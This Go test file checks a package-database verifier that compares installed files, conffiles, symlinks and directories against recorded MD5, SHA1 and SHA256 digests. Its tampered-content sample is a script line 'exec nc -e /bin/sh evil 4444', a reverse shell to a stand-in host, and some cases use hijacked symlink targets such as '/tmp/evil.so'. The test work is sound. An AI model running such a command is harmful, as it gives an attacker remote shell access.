package pkgdb

import (
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/hex"
	"strings"
	"testing"
)

func hexsum(b []byte) string { return hex.EncodeToString(b) }

func TestVerify(t *testing.T) {
	content := []byte("#!/bin/sh\necho hello\n")
	m := md5.Sum(content)
	s1 := sha1.Sum(content)
	s256 := sha256.Sum256(content)
	md, sh1, sh256 := hexsum(m[:]), hexsum(s1[:]), hexsum(s256[:])
	tampered := md5.Sum([]byte("#!/bin/sh\nexec nc -e /bin/sh evil 4444\n"))
	file := Observed{Kind: Regular, MD5: md, SHA1: sh1, SHA256: sh256}
	other := strings.Repeat("ab", 32) // another content's sha256
	target := sha1.Sum([]byte("../lib/libz.so.1.3"))
	for _, tt := range []struct {
		name string
		f    File
		o    Observed
		want Status
	}{
		{"md5 same", File{Path: "/bin/x", Algorithm: MD5, Digest: md}, file, OK},
		{"md5 upper-case record", File{Path: "/bin/x", Algorithm: MD5, Digest: "" + upper(md)}, file, OK},
		{"md5 differs", File{Path: "/bin/x", Algorithm: MD5, Digest: hexsum(tampered[:])}, file, Modified},
		{"conffile differs", File{Path: "/etc/x", Algorithm: MD5, Digest: hexsum(tampered[:]), Flags: Conffile}, file, ConffileModified},
		{"conffile same", File{Path: "/etc/x", Algorithm: MD5, Digest: md, Flags: Conffile}, file, OK},
		{"sha1 (apk Q1)", File{Path: "/bin/x", Algorithm: SHA1, Digest: sh1}, file, OK},
		{"sha256 (rpm algo 8)", File{Path: "/bin/x", Algorithm: SHA256, Digest: sh256}, file, OK},
		{"sha256-160 (apk f:S)", File{Path: "/bin/x", Algorithm: SHA256_160, Digest: sh256[:40]}, file, OK},
		{"sha256-160 is not sha1", File{Path: "/bin/x", Algorithm: SHA256_160, Digest: sh1}, file, Modified},
		{"sha512 not computed", File{Path: "/bin/x", Algorithm: SHA512, Digest: sh256 + sh256}, file, NotVerifiable},
		{"md5 not computed", File{Path: "/bin/x", Algorithm: MD5, Digest: md}, Observed{Kind: Regular, SHA256: sh256}, NotVerifiable},
		{"md5 not computed, replaced the recorded content", File{Path: "/bin/x", Algorithm: MD5, Digest: md},
			Observed{Kind: Regular, SHA256: other, Replaced: []Digests{{SHA256: sh256, MD5: md, SHA1: sh1}}}, Modified},
		{"sha1 not computed, replaced the recorded content", File{Path: "/bin/x", Algorithm: SHA1, Digest: upper(sh1)},
			Observed{Kind: Regular, SHA256: other, Replaced: []Digests{{SHA256: sh256, MD5: md, SHA1: sh1}}}, Modified},
		{"conffile not computed, replaced the recorded content", File{Path: "/etc/x", Algorithm: MD5, Digest: md, Flags: Conffile},
			Observed{Kind: Regular, SHA256: other, Replaced: []Digests{{SHA256: sh256, MD5: md}}}, ConffileModified},
		{"md5 not computed, replaced other content", File{Path: "/bin/x", Algorithm: MD5, Digest: md},
			Observed{Kind: Regular, SHA256: other, Replaced: []Digests{{SHA256: sh256, MD5: hexsum(tampered[:])}}}, NotVerifiable},
		{"md5 not computed, replaced the same content", File{Path: "/bin/x", Algorithm: MD5, Digest: md},
			Observed{Kind: Regular, SHA256: sh256, Replaced: []Digests{{SHA256: sh256, MD5: md}}}, NotVerifiable},
		{"md5 not computed, no sha256 to tell", File{Path: "/bin/x", Algorithm: MD5, Digest: md},
			Observed{Kind: Regular, Replaced: []Digests{{SHA256: sh256, MD5: md}}}, NotVerifiable},
		{"missing", File{Path: "/bin/x", Algorithm: MD5, Digest: md}, Observed{}, Missing},
		{"missing conffile", File{Path: "/etc/x", Algorithm: MD5, Digest: md, Flags: Conffile}, Observed{}, Missing},
		{"excluded and absent", File{Path: "/usr/share/doc/x/README", Algorithm: MD5, Digest: md}, Observed{Excluded: true}, Excluded},
		{"excluded but present is judged", File{Path: "/usr/share/doc/x/README", Algorithm: MD5, Digest: hexsum(tampered[:])}, Observed{Kind: Regular, MD5: md, Excluded: true}, Modified},
		{"diverted", File{Path: "/bin/sh", Algorithm: MD5, Digest: md}, Observed{Kind: Regular, MD5: hexsum(tampered[:]), Diverted: true}, Diverted},
		{"diverted and absent", File{Path: "/bin/sh", Algorithm: MD5, Digest: md}, Observed{Diverted: true}, Diverted},
		{"ghost absent", File{Path: "/var/log/x.log", Flags: Ghost}, Observed{}, NotVerifiable},
		{"ghost with content", File{Path: "/var/log/x.log", Algorithm: MD5, Digest: md, Flags: Ghost}, Observed{Kind: Regular, MD5: hexsum(tampered[:])}, NotVerifiable},
		{"obsolete conffile", File{Path: "/etc/x", Algorithm: MD5, Digest: md, Flags: Conffile | Obsolete}, Observed{}, NotVerifiable},
		{"file replaced by a symlink", File{Path: "/bin/x", Algorithm: MD5, Digest: md}, Observed{Kind: Link, LinkTarget: "/tmp/x"}, Modified},
		{"file replaced by a directory", File{Path: "/bin/x", Algorithm: MD5, Digest: md}, Observed{Kind: Directory}, Modified},
		{"dir", File{Path: "/usr", Flags: Dir}, Observed{Kind: Directory}, OK},
		{"dir replaced by a file", File{Path: "/usr", Flags: Dir}, file, Modified},
		{"dir missing", File{Path: "/usr", Flags: Dir}, Observed{}, Missing},
		{"symlink same target (rpm)", File{Path: "/lib/libz.so.1", Flags: Symlink, LinkTarget: "libz.so.1.3"}, Observed{Kind: Link, LinkTarget: "libz.so.1.3"}, OK},
		{"symlink retargeted (rpm)", File{Path: "/lib/libz.so.1", Flags: Symlink, LinkTarget: "libz.so.1.3"}, Observed{Kind: Link, LinkTarget: "/tmp/evil.so"}, Modified},
		{"conffile symlink retargeted (rpm)", File{Path: "/etc/localtime", Flags: Symlink | Conffile, LinkTarget: "/usr/share/zoneinfo/UTC"}, Observed{Kind: Link, LinkTarget: "x"}, ConffileModified},
		{"symlink without digest or target", File{Path: "/lib/libz.so.1", Flags: Symlink}, Observed{Kind: Link, LinkTarget: "anything"}, NotVerifiable},
		{"symlink same target (apk)", File{Path: "/lib/libz.so.1", Algorithm: SHA1, Digest: hexsum(target[:]), Flags: Symlink}, Observed{Kind: Link, LinkTarget: "../lib/libz.so.1.3"}, OK},
		{"symlink retargeted (apk)", File{Path: "/lib/libz.so.1", Algorithm: SHA1, Digest: hexsum(target[:]), Flags: Symlink}, Observed{Kind: Link, LinkTarget: "/tmp/evil.so"}, Modified},
		{"symlink replaced by a file", File{Path: "/lib/libz.so.1", Flags: Symlink}, file, Modified},
		{"symlink digest of unknown algorithm", File{Path: "/lib/l", Algorithm: "whirlpool", Digest: "00", Flags: Symlink}, Observed{Kind: Link, LinkTarget: "x"}, NotVerifiable},
		{"no digest, regular file (dpkg list)", File{Path: "/etc/x"}, file, NotVerifiable},
		{"no digest, directory (dpkg list)", File{Path: "/usr/share"}, Observed{Kind: Directory}, OK},
		{"no digest, symlink (dpkg list)", File{Path: "/bin"}, Observed{Kind: Link, LinkTarget: "usr/bin"}, OK},
		{"no digest, absent", File{Path: "/usr/share/x"}, Observed{}, Missing},
		{"device instead of file", File{Path: "/bin/x", Algorithm: MD5, Digest: md}, Observed{Kind: Other}, Modified},
	} {
		if got := Verify(tt.f, tt.o); got != tt.want {
			t.Errorf("%s: Verify = %s, want %s", tt.name, got, tt.want)
		}
	}
}

func upper(s string) string {
	b := []byte(s)
	for i, c := range b {
		if 'a' <= c && c <= 'f' {
			b[i] = c - 'a' + 'A'
		}
	}
	return string(b)
}

func TestDigest(t *testing.T) {
	for _, tt := range []struct {
		a    Algorithm
		want string
	}{
		{MD5, "d41d8cd98f00b204e9800998ecf8427e"},
		{SHA1, "da39a3ee5e6b4b0d3255bfef95601890afd80709"},
		{SHA256_160, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4"},
		{SHA256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
	} {
		if got, ok := Digest(tt.a, nil); !ok || got != tt.want {
			t.Errorf("Digest(%s) = %q %v, want %q", tt.a, got, ok, tt.want)
		}
	}
	if _, ok := Digest(NoDigest, nil); ok {
		t.Error("Digest(NoDigest) ok")
	}
}
